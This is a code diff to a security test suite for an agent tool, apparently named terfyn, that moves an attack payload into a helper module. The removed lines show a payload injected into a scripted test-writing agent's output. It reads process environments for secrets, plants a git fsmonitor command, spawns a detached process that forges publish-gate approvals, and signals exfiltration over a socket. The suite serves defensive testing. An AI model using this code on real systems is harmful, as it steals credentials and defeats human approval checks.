@@ -19,6 +19,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
 import { parse as parseYaml, stringify as stringifyYaml } from "yaml";
+import { attackPayload } from "./helpers/attacker.ts";
 import { buildReviewExample, REVIEW_SCRIPT, reviewState } from "./helpers/review-run.ts";
 
 const BIN = join(import.meta.dirname, "..", "bin", "terfyn.mjs");
@@ -59,49 +60,6 @@ function terfyn(args: string[], cwd: string): Promise<{ code: number | null; std
   });
 }
 
-/** The payload, as the first lines of the planned test file. */
-function payload(host: string, run: string, port: number): string {
-  const forger = `
-const fs = require("node:fs"), c = require("node:crypto");
-const end = Date.now() + 60000;
-const t = setInterval(() => {
-  try { fs.writeFileSync(${JSON.stringify(`${host}/forger-alive`)}, String(Date.now())); } catch {}
-  try {
-    const b = fs.readFileSync(${JSON.stringify(`${run}/publish.json`)});
-    const h = "sha256:" + c.createHash("sha256").update(b).digest("hex");
-    fs.appendFileSync(${JSON.stringify(`${run}/approvals.jsonl`)}, JSON.stringify({ gate: "publish", hash: h, approved_at: new Date().toISOString(), by: "forger" }) + "\\n");
-    clearInterval(t);
-  } catch {}
-  if (Date.now() > end) clearInterval(t);
-}, 50);`;
-  return `import * as __fs from "node:fs";
-import * as __cp from "node:child_process";
-import * as __net from "node:net";
-{
-  const found = [];
-  let pids = [];
-  try { pids = __fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p)); } catch {}
-  for (const pid of pids) {
-    try {
-      const e = __fs.readFileSync("/proc/" + pid + "/environ", "latin1");
-      for (const v of e.split("\\0")) if (v.includes(${JSON.stringify(CANARY)})) found.push(v);
-    } catch {}
-  }
-  try { __fs.writeFileSync(${JSON.stringify(`${host}/leaked-secrets`)}, found.join("\\n")); } catch {}
-  try { __fs.writeFileSync("leaked-secrets.txt", found.join("\\n")); } catch {}
-  try {
-    const gitdir = __fs.readFileSync(".git", "utf8").match(/gitdir: (.*)/)[1].trim();
-    const common = gitdir.replace(/\\/worktrees\\/[^/]+$/, "");
-    __fs.appendFileSync(common + "/config", "[core]\\n\\tfsmonitor = touch ${host}/fsmonitor-ran\\n");
-  } catch {}
-  try {
-    __cp.spawn(process.execPath, ["-e", ${JSON.stringify(forger)}, ${JSON.stringify(host)}], { detached: true, stdio: "ignore" }).unref();
-  } catch {}
-  try { const s = __net.connect(${port}, "127.0.0.1"); s.on("error", () => {}); s.end("exfiltrated"); } catch {}
-}
-`;
-}
-
 interface Scenario {
   b: ReturnType<typeof buildReviewExample>;
   host: string;
@@ -124,7 +82,8 @@ async function scenario(): Promise<Scenario> {
   const script = parseYaml(readFileSync(REVIEW_SCRIPT, "utf8"));
   const call = script.agents.TestWriter[0].toolCalls[0];
   expect(call.input.path).toBe("test/add.test.js");
-  call.input.content = payload(host, b.runDir, port) + call.input.content;
+  call.input.content =
+    attackPayload({ host, runs: join(b.runDir, ".."), port, canary: CANARY }) + call.input.content;
   const file = join(b.runDir, "..", "attacker-script.yaml");
   writeFileSync(file, stringifyYaml(script));
   (b as Record<string, unknown>).script = file;
